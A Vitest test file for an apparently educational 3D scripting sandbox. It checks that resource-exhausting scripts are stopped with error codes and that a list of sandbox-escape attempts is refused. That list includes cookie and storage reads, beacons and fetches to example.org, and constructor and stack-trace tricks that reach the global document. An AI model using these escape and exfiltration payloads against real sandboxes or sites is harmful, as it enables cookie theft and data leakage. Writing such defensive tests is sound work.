import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { inDebugger, inWorkspace } from '../../language/compile/how-to-compile.ts'
import { FileId } from '../../model/ids.ts'
import { type OpenFrame, openFrame } from '../../scripts/frame/open-frame.ts'
import { compileTab } from '../support/scripts/compile-tab.ts'
import { cameraInFront } from './support/camera-in-front.ts'
import { frameEntity } from './support/frame-entity.ts'

/** A second try tells a computer with much else to do from a page that hangs. */
const patience = { timeout: 90_000, retry: 1 }
/** After so many milliseconds without an answer the app takes a page for one that hangs (`machines/frame-host`). */
const hangs = 3000

let frame: OpenFrame
const open = async () => {
  frame = await openFrame('play')
  const camera = cameraInFront()
  const box = frameEntity('box', { components: { geometry: { primitive: 'box' } } })
  await frame.say({ type: 'scene.load', entities: [camera, box] })
  await frame.waitFor('scene.shown')
}
beforeAll(open, patience.timeout)
afterEach(async () => {
  await frame.close()
  await open()
}, patience.timeout)
afterAll(() => frame?.close())

/** Runs a tab for some seconds and pings all the while; the longest time that an answer took, in milliseconds. */
async function longestSilence(source: string, seconds: number, how = inWorkspace): Promise<number> {
  await frame.say({
    type: 'run.start',
    seed: 1,
    scripts: [compileTab(source, { fileId: FileId.parse('tab1'), how })],
  })
  let longest = 0
  let n = 0
  const end = performance.now() + seconds * 1000
  while (performance.now() < end) {
    n += 1
    const asked = performance.now()
    await frame.say({ type: 'ping', n })
    await frame.page.waitForFunction(
      `window.heard.some(({ type, n }) => type === 'pong' && n === ${n})`,
      undefined,
      {
        timeout: 30_000,
      },
    )
    longest = Math.max(longest, performance.now() - asked)
    await frame.page.waitForTimeout(50)
  }
  return longest
}

type Row = readonly [what: string, source: string, code: string]
const floods: readonly Row[] = [
  ['a loop', 'while (true) {}', 'endless-loop'],
  ['a loop of promises', 'while (true) { await null }', 'endless-loop'],
  [
    '10,000 clones',
    "const box = scene.get('box')\nfor (let i = 0; i < 10_000; i += 1) box.clone({at: {x: i % 90, y: 0, z: i / 90}})",
    'too-many-items',
  ],
  [
    'clones without end, one after the other',
    "while (true) {\n  for (let i = 0; i < 50; i += 1) scene.get('box').clone()\n  await nextFrame()\n}",
    'too-many-items',
  ],
  [
    'messages',
    "onMessage('a', () => {\n  broadcast('a')\n  broadcast('a')\n})\nbroadcast('a')",
    'too-many-messages',
  ],
  [
    'errors',
    'repeatEvery(0, () => { for (let i = 0; i < 100; i += 1) onStart(() => missing()) })',
    'unknown-name',
  ],
  ['speech', "while (true) { scene.get('box').say('hello '.repeat(1000)) }", 'endless-loop'],
  ['lists that fill the memory', 'const all = []\nwhile (true) all.push(new Array(1e6).fill(1))', 'too-big'],
  [
    'copies of a long list',
    'const big = new Array(1e6).fill(1)\nconst all = []\nwhile (true) all.push(big.slice())',
    'too-big',
  ],
  [
    'a list that is made long again and again',
    'const list = []\nwhile (true) {\n  list.length = 1e7\n  list.length = 0\n}',
    'too-big',
  ],
  ['a list that doubles', 'let all = [1]\nwhile (true) all = [...all, ...all]', 'too-big'],
  ['a text that doubles', "let text = 'a'\nwhile (true) text += text", 'too-big'],
]

/** What takes all memory takes all time as well: a slow computer says that first. */
const oneOf = (code: string): unknown =>
  expect.stringMatching(code === 'too-big' ? /^(too-big|endless-loop)$/ : new RegExp(`^${code}$`))
const told = async () => (await frame.heard('run.error')).map(({ error }) => error.code)

test.each(floods)(
  '[S25] [threat 4] a flood ends with a reason and the page answers all the while: %s',
  patience,
  async (_, source, code) => {
    const silence = await longestSilence(source, 4)
    expect(await told()).toEqual(expect.arrayContaining([oneOf(code)]))
    expect(silence, 'milliseconds without an answer').toBeLessThan(hangs)
  },
)

test.each(['new Array(1e6)', 'Array(1e6)'])(
  '[S25] [threat 4] room without end ends with a reason in a run that can be stopped too: %s',
  patience,
  async (room) => {
    const silence = await longestSilence(`const all = []\nwhile (true) all.push(${room})`, 4, inDebugger)
    expect(await told()).toEqual(expect.arrayContaining([oneOf('too-big')]))
    expect(silence, 'milliseconds without an answer').toBeLessThan(hangs)
  },
)

test('[threat 4] a log without end neither freezes the page nor floods the app', patience, async () => {
  const silence = await longestSilence(
    "repeatEvery(0, () => { for (let i = 0; i < 5000; i += 1) console.log('x'.repeat(5000)) })",
    3,
  )
  expect(silence, 'milliseconds without an answer').toBeLessThan(hangs)
  const logs = await frame.heard('run.log')
  expect(Math.max(...logs.map(({ lines }) => lines.length))).toBeLessThanOrEqual(200)
  expect(logs.some(({ leftOut }) => leftOut > 1000)).toBe(true)
})

/** Ways out of a world that people know; each ends in `undefined`, in an error, or in nothing that could be reached. */
const waysOut = [
  'document.cookie',
  'window.parent.document',
  'top.location.href',
  'parent.postMessage({type: "nestling.hello"}, "*")',
  'localStorage.getItem("a")',
  'indexedDB.open("a")',
  'fetch("https://example.org/leak")',
  'new XMLHttpRequest()',
  'navigator.sendBeacon("https://example.org/leak", "x")',
  'new WebSocket("wss://example.org")',
  'new EventSource("https://example.org")',
  'new RTCPeerConnection()',
  'new Image().src = "https://example.org/leak.png"',
  'new Worker("data:text/javascript,1")',
  'open("https://example.org")',
  'location.href = "https://example.org"',
  'location.assign("https://example.org")',
  'eval("this")',
  'Function("return this")()',
  '(() => {}).constructor("return this")()',
  '(async () => {}).constructor("return this")()',
  '(function* () {}).constructor("return this")().next()',
  '[].at.constructor("return document")()',
  'scene.get.constructor("return window")()',
  '(function () { return this })().document',
  '(0, function () { return this }).call(undefined).document',
  '(() => { Error.prepareStackTrace = (_, frames) => frames.map((f) => f.getThis() ?? f.getFunction()); const all = new Error().stack; return all.find(Boolean).document.cookie })()',
  'setTimeout("document.title = 1", 0)',
  'alert("hello")',
  'prompt("name?")',
  'confirm("sure?")',
  'history.back()',
  'caches.open("a")',
  'serviceWorker.register("x")',
  // A thing of the scene, by its own id.
  'box.ownerDocument.defaultView.localStorage.length',
  'globalThis.box.ownerDocument.title',
]

test(
  '[threat 1] [threat 2] [threat 3] nothing that a script tries gets out of its world, and nothing stops the page',
  patience,
  async () => {
    let dialogs = 0
    frame.page.on('dialog', (dialog) => {
      dialogs += 1
      void dialog.dismiss()
    })
    const tries = waysOut.map((way) => `async () => (${way})`).join(',\n')
    const source = `for (const attempt of [\n${tries}\n]) {\n  let result\n  try { result = await attempt() } catch { result = 'refused' }\n  console.log(result === undefined ? 'undefined' : result)\n}`
    const silence = await longestSilence(source, 2)
    const lines = (await frame.heard('run.log')).flatMap((log) => log.lines.map(({ text }) => text))
    expect(lines.map((text, index) => `${waysOut[index]}: ${text}`)).toEqual(
      waysOut.map((way) => `${way}: refused`),
    )
    expect(frame.strangers).toEqual([])
    expect(dialogs).toBe(0)
    expect(frame.page.frames()).toHaveLength(2)
    expect(silence).toBeLessThan(hangs)
  },
)
